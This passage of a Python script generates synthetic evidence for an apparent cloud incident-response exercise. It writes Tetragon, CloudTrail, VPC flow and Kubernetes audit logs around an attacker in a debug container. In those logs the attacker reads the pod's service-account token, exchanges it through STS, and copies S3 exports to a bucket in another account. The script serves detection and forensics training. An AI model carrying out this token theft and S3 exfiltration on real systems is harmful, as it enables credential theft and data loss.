DBG_POD = (LEDGER, NS, DBG_CTR, DBG, DBG_REPO + ":" + DBG_TAG, DBG_REPO + "@" + DBG_DIGEST, "ledger-api", tsec("10:43:08"),
           {"app": "ledger-api", "pod-template-hash": "7c9d8f6b5"})
SRE_POD = (CHK, NS, SRE_DBG_CTR, SRE_DBG, BUSYBOX, "docker.io/library/busybox@" + BUSYBOX_DIGEST, "checkout", tsec("09:24:33"),
           {"app": "checkout", "pod-template-hash": "5f6a7b8c9"})

def tev(kind, body, t):
    return {kind: body, "node_name": NODE, "time": t, "cluster_name": CLUSTER}

def connect(saddr, daddr, sport, dport):
    return [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "mark": 0, "priority": 0,
                          "saddr": saddr, "daddr": daddr, "sport": sport, "dport": dport, "cookie": "18446623491029417984",
                          "state": "TCP_SYN_SENT"}}]

def kprobe(proc, parent, fn, args, t, policy, ret=None):
    b = {"process": proc, "function_name": fn, "args": args, "action": "KPROBE_ACTION_POST", "policy_name": policy}
    if parent is not None: b["parent"] = parent
    if ret is not None: b["return"] = ret
    return tev("process_kprobe", b, t)

S3_IP, STS_IP = "52.218.62.17", "10.44.0.201"  # S3 through the gateway endpoint (public prefix); STS's interface endpoint

def tetragon():
    """Tetragon's JSON export (1.2). An ephemeral container's first process is its own init, started by the runtime
    shim (parent containerd-shim-runc-v2 on the host, not in the pod); with --target it shares the target container's
    PID namespace, so the target's files are at /proc/1/root."""
    eid = lambda pid, t: base64.b64encode(("%s:%d:%d" % (NODE.split(".")[0], int(epoch(t) * 1e9) % 10**15, pid)).encode()).decode()
    shim = lambda pid, t, ctr: tproc(eid(pid, t), pid, "/usr/bin/containerd-shim-runc-v2",
                                     "-namespace k8s.io -id %s -address /run/containerd/containerd.sock" % ctr, ts(t, 1000000), None,
                                     eid(1, "06:12:01"))
    ledger_main = tproc(eid(3120, "07:02:16"), 3120, "/app/ledger-api", "--config /etc/ledger/config.yaml",
                        ts("07:02:16", 300000000), LEDGER_POD, None, uid=65532, cwd="/app")
    out = [tev("process_exec", {"process": ledger_main}, ts("07:02:16", 300400000))]
    # the SRE's busybox shell in the checkout pod
    s = shim(20410, "09:24:33", SRE_DBG_CTR)
    ssh = tproc(eid(20418, "09:24:33"), 20418, "/bin/sh", "", ts("09:24:33", 800000000), SRE_POD, s["exec_id"])
    out += [tev("process_exec", {"process": ssh, "parent": s}, ts("09:24:33", 800300000)),
            tev("process_exec", {"process": tproc(eid(20433, "09:24:35"), 20433, "/bin/nslookup", "payments-db.payments.svc.cluster.local",
                                                  ts("09:24:35", 200000000), SRE_POD, ssh["exec_id"]), "parent": ssh}, ts("09:24:35", 200300000)),
            tev("process_exec", {"process": tproc(eid(20461, "09:25:02"), 20461, "/bin/wget", "-qO- http://localhost:8080/healthz",
                                                  ts("09:25:02", 1000000), SRE_POD, ssh["exec_id"]), "parent": ssh}, ts("09:25:02", 1300000))]
    # the attacker's shell in the ledger pod
    s = shim(48801, "10:43:08", DBG_CTR)
    sh = tproc(eid(48809, "10:43:08"), 48809, "/usr/bin/sh", "", ts("10:43:08", 700000000), DBG_POD, s["exec_id"])
    out.append(tev("process_exec", {"process": sh, "parent": s}, ts("10:43:08", 700300000)))
    cat = tproc(eid(48840, "10:43:10"), 48840, "/usr/bin/cat", "/proc/1/root/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
                ts("10:43:10", 551000000), DBG_POD, sh["exec_id"])
    out.append(tev("process_exec", {"process": cat, "parent": sh}, ts("10:43:10", 551300000)))
    out.append(kprobe(cat, sh, "security_file_permission",
                      [{"file_arg": {"path": "/var/run/secrets/eks.amazonaws.com/serviceaccount/..2026_11_23_07_02_14.3318204417/token",
                                     "permission": "-rw-r-----"}}, {"int_arg": 4}],
                      ts("10:43:10", 551900000), "sa-token-read", ret={"int_arg": 0}))
    aws = "/usr/local/aws-cli/v2/2.18.0/dist/aws"
    calls = [
        (48870, "10:44:02", "sts assume-role-with-web-identity --role-arn %s --role-session-name debug --web-identity-token file:///tmp/t" % LEDGER_ROLE,
         STS_IP, 43118),
        (48902, "10:45:20", "s3 sync s3://%s/2026-11/ /tmp/l --quiet" % EXPORTS, S3_IP, 43170),
        (49120, "10:49:41", "s3 cp --recursive /tmp/l s3://%s/l/ --quiet" % DROP_BUCKET, "52.218.49.3", 43466),
    ]
    for pid, t, args, dst, sport in calls:
        p = tproc(eid(pid, t), pid, aws, args, ts(t, 560000000), DBG_POD, sh["exec_id"])
        out.append(tev("process_exec", {"process": p, "parent": sh}, ts(t, 560300000)))
        out.append(kprobe(p, sh, "tcp_connect", connect(LEDGER_IP, dst, sport, 443), ts(t, 990000000), "connect-egress"))
    out.sort(key=lambda e: e["time"])
    return jl(out)

# ------------------------------------------------------------------------------------------------------ CloudTrail
_ct = CloudTrailLog(_files, REGION, "1.10", "5c1e%04d-7a2b-4c3d-8e9f-%012d", "9d3b%04d-1e2f-4a5b-b6c7-%012d")
ct_rec = _ct.record

def session_identity(acct, role_name, role_arn, principal, oidc, name, key, created):
    return {"type": "AssumedRole", "principalId": principal + ":" + name,
            "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (acct, role_name, name), "accountId": acct, "accessKeyId": key,
            "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": principal, "arn": role_arn,
                                                 "accountId": acct, "userName": role_name},
                               "webIdFederationData": {"federatedProvider": oidc, "attributes": {}},
                               "attributes": {"creationDate": DAY + "T" + created + "Z", "mfaAuthenticated": "false"}}}

def assume(acct, t, ip, ua, sa_user, oidc, role_arn, role_name, principal, name, key, vpce):
    web_identity = {"type": "WebIdentityUser", "principalId": oidc + ":sts.amazonaws.com:" + sa_user,
                    "userName": sa_user, "identityProvider": oidc}
    return ct_rec(acct, t, web_identity, "sts.amazonaws.com", "AssumeRoleWithWebIdentity", ip, ua,
                  {"roleArn": role_arn, "roleSessionName": name, "durationSeconds": 3600},
                  {"credentials": {"accessKeyId": key, "sessionToken": "redacted",
                                   "expiration": "Nov 23, 2026, %d:%s AM" % (int(t[:2]) + 1, t[3:8])},
                   "subjectFromWebIdentityToken": sa_user,
                   "assumedRoleUser": {"assumedRoleId": principal + ":" + name,
                                       "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (acct, role_name, name)},
                   "provider": oidc, "audience": "sts.amazonaws.com"}, extra={"vpcEndpointId": vpce})

def s3_obj(acct, t, ident, ip, ua, op, bucket, bucket_acct, key, vpce, nbytes):
    io_ = {"bytesTransferredIn": nbytes if op == "PutObject" else 0, "bytesTransferredOut": 0 if op == "PutObject" else nbytes}
    return ct_rec(acct, t, ident, "s3.amazonaws.com", op, ip, ua,
                  {"bucketName": bucket, "Host": "%s.s3.%s.amazonaws.com" % (bucket, REGION), "key": key},
                  None if op == "GetObject" else {"x-amz-server-side-encryption": "AES256"}, category="Data", ro=op == "GetObject",
                  extra={"resources": [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::%s/%s" % (bucket, key)},
                                       {"accountId": bucket_acct, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::" + bucket}],
                         "additionalEventData": dict({"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
                                                      "AuthenticationMethod": "AuthHeader", "x-amz-id-2": "Zx7q2EXAMPLE="}, **io_),
                         "vpcEndpointId": vpce, "vpcEndpointAccountId": acct,  # the endpoint's owner: the caller's VPC
                         **({} if bucket_acct == acct else {"sharedEventID": "4e6a8c0e-2a4c-4e6a-8c0e-%012d" % _ct.n})})

GO_SDK = "aws-sdk-go-v2/1.32.4 ua/2.1 os/linux lang/go#1.23.3 md/GOOS#linux md/GOARCH#amd64 api/s3#1.66.3"
CLI = "aws-cli/2.18.0 md/awscrt#0.22.0 ua/2.0 os/linux#6.1.115-126.197.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython exec-env/EC2 md/installer#docker md/distrib#amzn.2 md/prompt#off md/command#"
PROD_STS_VPCE, PROD_S3_VPCE = "vpce-0d2f4a6c8e0b1d3f5", "vpce-0a9c8e7d6b5f4a3c2"

def prod_trail_early():
    """The 10:45 file: the ledger pod's own session (07:02) and reads, the attacker's exchange through the STS endpoint
    from the pod's own address, and the first reads with the new session."""
    pod = session_identity(ACCT, LEDGER_ROLE_NAME, LEDGER_ROLE, "AROAVLEDGERAPIIRSA01", OIDC, POD_SESSION_NAME, POD_KEY, "07:02:18")
    dbg = session_identity(ACCT, LEDGER_ROLE_NAME, LEDGER_ROLE, "AROAVLEDGERAPIIRSA01", OIDC, DEBUG_SESSION_NAME, DEBUG_KEY, "10:44:03")
    recs = [assume(ACCT, "07:02:18", LEDGER_IP, GO_SDK.replace("api/s3#1.66.3", "api/sts#1.32.4"), LEDGER_SA_USER, OIDC, LEDGER_ROLE,
                   LEDGER_ROLE_NAME, "AROAVLEDGERAPIIRSA01", POD_SESSION_NAME, POD_KEY, PROD_STS_VPCE)]
    for i in range(4):
        t = time.strftime("%H:%M:%S", time.gmtime(epoch("10:30:00") + i * 150))
        recs.append(s3_obj(ACCT, t, pod, LEDGER_IP, GO_SDK, "PutObject", EXPORTS, ACCT, "2026-11/batch-%04d.parquet" % (410 + i),
                           PROD_S3_VPCE, 1800000 + 7919 * i))
    recs.append(assume(ACCT, "10:44:03", LEDGER_IP, CLI + "sts.assume-role-with-web-identity", LEDGER_SA_USER, OIDC, LEDGER_ROLE,
                       LEDGER_ROLE_NAME, "AROAVLEDGERAPIIRSA01", DEBUG_SESSION_NAME, DEBUG_KEY, PROD_STS_VPCE))
    recs.append(ct_rec(ACCT, "10:45:20", dbg, "s3.amazonaws.com", "ListObjects", LEDGER_IP, "[" + CLI + "s3.sync]",
                       {"bucketName": EXPORTS, "Host": "%s.s3.%s.amazonaws.com" % (EXPORTS, REGION), "prefix": "2026-11/",
                        "list-type": "2", "encoding-type": "url"}, None, category="Data",
                       extra={"resources": [{"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::" + EXPORTS}],
                              "vpcEndpointId": PROD_S3_VPCE, "vpcEndpointAccountId": ACCT}))
    for i in range(3):
        recs.append(s3_obj(ACCT, "10:45:%02d" % (21 + i), dbg, LEDGER_IP, "[" + CLI + "s3.sync]", "GetObject", EXPORTS, ACCT,
                           "2026-11/batch-%04d.parquet" % (401 + i), PROD_S3_VPCE, 1790000 + 3011 * i))
    recs.sort(key=lambda r: r["eventTime"])
    return json.dumps({"Records": recs}, separators=(",", ":"))

def prod_trail_late():
    """The 10:55 file, delivered after the first collection: the copy into the attacker's bucket (another account's:
    the bucket's resource names its owner; CloudTrail delivers the data event to the caller's trail too)."""
    dbg = session_identity(ACCT, LEDGER_ROLE_NAME, LEDGER_ROLE, "AROAVLEDGERAPIIRSA01", OIDC, DEBUG_SESSION_NAME, DEBUG_KEY, "10:44:03")
    recs = []
    for i in range(3):
        recs.append(s3_obj(ACCT, "10:49:%02d" % (42 + i), dbg, LEDGER_IP, "[" + CLI + "s3.cp]", "PutObject", DROP_BUCKET, DROP_ACCT,
                           "l/batch-%04d.parquet" % (401 + i), PROD_S3_VPCE, 1790000 + 3011 * i))
    return json.dumps({"Records": recs}, separators=(",", ":"))

def stg_trail():
    """The staging account's trail: its ledger pod (the production pod's address in the same range) exchanges its own
    token and writes its nightly report to the organization's log archive bucket (another account, by design)."""
    sess = session_identity(STG_ACCT, "ledger-api-irsa", STG_ROLE, "AROAVSTGLEDGERIRSA01", STG_OIDC, "botocore-session-1795420990",
                            "ASIAVSTGLEDGER000001", "10:40:11")
    recs = [assume(STG_ACCT, "10:40:11", LEDGER_IP, GO_SDK.replace("api/s3#1.66.3", "api/sts#1.32.4"), LEDGER_SA_USER, STG_OIDC,
                   STG_ROLE, "ledger-api-irsa", "AROAVSTGLEDGERIRSA01", "botocore-session-1795420990", "ASIAVSTGLEDGER000001",
                   "vpce-0e1f2a3b4c5d6e7f8"),
            s3_obj(STG_ACCT, "10:46:30", sess, LEDGER_IP, GO_SDK, "PutObject", ARCHIVE_BUCKET, ARCHIVE_ACCT,
                   "reports/payments-stg/2026-11-23/ledger-reconcile.json.gz", "vpce-0f2a3b4c5d6e7f809", 81233)]
    return json.dumps({"Records": recs}, separators=(",", ":"))

# ---------------------------------------------------------------------------------------------------- VPC Flow v5
FLOW_FIELDS = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
               "log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id "
               "sublocation-type sublocation-id pkt-src-aws-service pkt-dst-aws-service flow-direction traffic-path")

def flows(acct, eni, vpc, instance, records):
    out = [FLOW_FIELDS + "\n"]
    for src, dst, sp, dp, pk, by, start, direction, dst_svc in records:
        s = int(epoch(start))
        out.append("5 %s %s %s %s %d %d 6 %d %d %d %d ACCEPT OK %s %s %s %d IPv4 %s %s %s %s - - - %s %s %s\n" % (
            acct, eni, src, dst, sp, dp, pk, by, s, s + 59, vpc, SUBNET, instance, 19 if pk < 30 else 18, src, dst, REGION,
            AZ_ID, dst_svc, direction, "7" if dst_svc == "S3" else ("8" if direction == "egress" else "-")))
    return "".join(out)

def prod_flows():
    return flows(ACCT, ENI, VPC, INSTANCE, [
        # the migration Job's pod, at the address the ledger pod has from 07:02, migrating the ledger's database
        (LEDGER_IP, "10.44.30.12", 38120, 5432, 2210, 9133810, "06:50:00", "egress", "-"),
        # the debug shell's S3 traffic through the gateway endpoint: the sync in, the copy out
        (LEDGER_IP, S3_IP, 43170, 443, 4120, 5511022, "10:45:20", "egress", "S3"),
        (LEDGER_IP, "52.218.49.3", 43466, 443, 3980, 5470188, "10:49:41", "egress", "S3"),
        # the pod's own exports, the checkout service's database
        (LEDGER_IP, S3_IP, 41022, 443, 1310, 1811203, "10:30:00", "egress", "S3"),
        (CHK_IP, "10.44.30.12", 50112, 5432, 62, 14019, "09:25:00", "egress", "-"),
        # the checkout service's receipts, uploaded to its own bucket through the same S3 front end
        (CHK_IP, S3_IP, 50180, 443, 40, 61022, "09:26:00", "egress", "S3"),
    ])

def stg_flows():
    return flows(STG_ACCT, STG_ENI, STG_VPC, STG_INSTANCE, [
        (LEDGER_IP, "52.218.49.3", 40211, 443, 96, 84410, "10:46:30", "egress", "S3"),
        (LEDGER_IP, "10.44.30.12", 40240, 5432, 80, 22180, "10:46:00", "egress", "-"),
    ])

def stg_audit():
    """The staging cluster's audit lines (its node and its ledger pod at the production pod's address)."""
    ev = [audit("05:58:10", 99120, "create", "/api/v1/nodes", *kubelet_user(STG_NODE), STG_NODE_IP,
                {"resource": "nodes", "name": STG_NODE, "apiVersion": "v1"}, code=201, ua=KUBELET_UA,
                request={"kind": "Node", "apiVersion": "v1", "metadata": {"name": STG_NODE},
                         "spec": {"providerID": "aws:///%s/%s" % (ZONE, STG_INSTANCE)},
                         "status": {"addresses": [{"type": "InternalIP", "address": STG_NODE_IP}]}})]
    st = status_patch(STG_POD_UID, containers=[cstatus("ledger", STG_CTR, "%s.dkr.ecr.%s.amazonaws.com/payments/ledger-api:5.3.0-rc1"
                                                        % (STG_ACCT, REGION), "%s.dkr.ecr.%s.amazonaws.com/payments/ledger-api@sha256:%s"
                                                        % (STG_ACCT, REGION, "6d1f" * 16), tsec("06:30:04"))])
    st["status"].update({"phase": "Running", "podIP": LEDGER_IP, "podIPs": [{"ip": LEDGER_IP}], "hostIP": STG_NODE_IP,
                         "hostIPs": [{"ip": STG_NODE_IP}], "startTime": tsec("06:30:01")})
    ev.append(audit("06:30:05", 301120, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, STG_POD), *kubelet_user(STG_NODE),
                    STG_NODE_IP, pod_ref(STG_POD, NS, "status"), level="Request", ua=KUBELET_UA, request=st))
    return ev

# ------------------------------------------------------------------------------------------------------------ main
def main():
    for d in (OUT, LATE):
        if os.path.exists(d):
            shutil.rmtree(d)
    write("strata-context.yaml", "\n".join([
        "# what the responder collected, and where from (the collector's context manifest): payments-eks (385726194013)",
        "# and the staging cluster payments-eks-stg (604918273645), whose VPC uses the same 10.44.0.0/16",
        "- path: prod/control-plane", "  cluster: %s" % CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT,
        "  cloud_region: %s" % REGION,
        "- path: prod/nodes/ip-10-44-21-130", "  host: %s" % NODE, "  cluster: %s" % CLUSTER, "  cloud_provider: aws",
        '  cloud_account: "%s"' % ACCT, "  cloud_region: %s" % REGION, "  cloud_instance: %s" % INSTANCE,
        "- path: stg/control-plane", "  cluster: %s" % STG_CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % STG_ACCT,
        "  cloud_region: %s" % REGION, ""]))
    write("prod/control-plane/cwl-export/3f5a7c9e-1b2d-4f6a-8c0e-2b4d6f8a0c1e/kube-apiserver-audit-9c1e3a5b7d9f1b3d5f7a9c1e3b5d7f9a/000000.gz",
          cwl_export(prod_audit()), gz=True)
    write("prod/control-plane/kubectl/get-pods-A.json", json.dumps(pods_snapshot(), indent=4) + "\n")
    write("stg/control-plane/var/log/kubernetes/audit/audit.log", jl(stg_audit()))
    node = "prod/nodes/ip-10-44-21-130/"
    write(node + "var/log/pods/%s_%s_%s/ledger/0.log" % (NS, LEDGER, LEDGER_UID), cri_ledger())
    write(node + "var/log/pods/%s_%s_%s/%s/0.log" % (NS, LEDGER, LEDGER_UID, DBG), cri_debugger())
    write(node + "var/log/pods/%s_%s_%s/checkout/0.log" % (NS, CHK, CHK_UID), cri_checkout())
    write(node + "var/log/pods/%s_%s_%s/%s/0.log" % (NS, CHK, CHK_UID, SRE_DBG), cri_sre())
    write(node + "var/run/cilium/tetragon/tetragon.log", tetragon())
    ct = "AWSLogs/o-p4ym3nts01/%s/CloudTrail/%s/2026/11/23/%s_CloudTrail_%s_20261123T%sZ_%s.json.gz"
    write(ct % (ACCT, REGION, ACCT, REGION, "1045", "Vb3Nq8Lk2Xw7Rt5Y"), prod_trail_early(), gz=True)
    write(ct % (STG_ACCT, REGION, STG_ACCT, REGION, "1050", "Hd6Fs1Mz9Pc4Jq2W"), stg_trail(), gz=True)
    fl = "AWSLogs/%s/vpcflowlogs/%s/2026/11/23/%s_vpcflowlogs_%s_%s_20261123T1045Z_%s.log.gz"
    write(fl % (ACCT, REGION, ACCT, REGION, "fl-0b1d3f5a7c9e1b3d5", "7a9c1e3b"), prod_flows(), gz=True)
    write(fl % (STG_ACCT, REGION, STG_ACCT, REGION, "fl-0c2e4a6c8e0a2c4e6", "2c4e6a8c"), stg_flows(), gz=True)
    # late: the trail's next file, pulled after the first collection had been correlated
    _late.write(ct % (ACCT, REGION, ACCT, REGION, "1055", "Qp2Wx9Ec4Rv7Tb1N"), prod_trail_late(), gz=True)

if __name__ == "__main__":
    main()
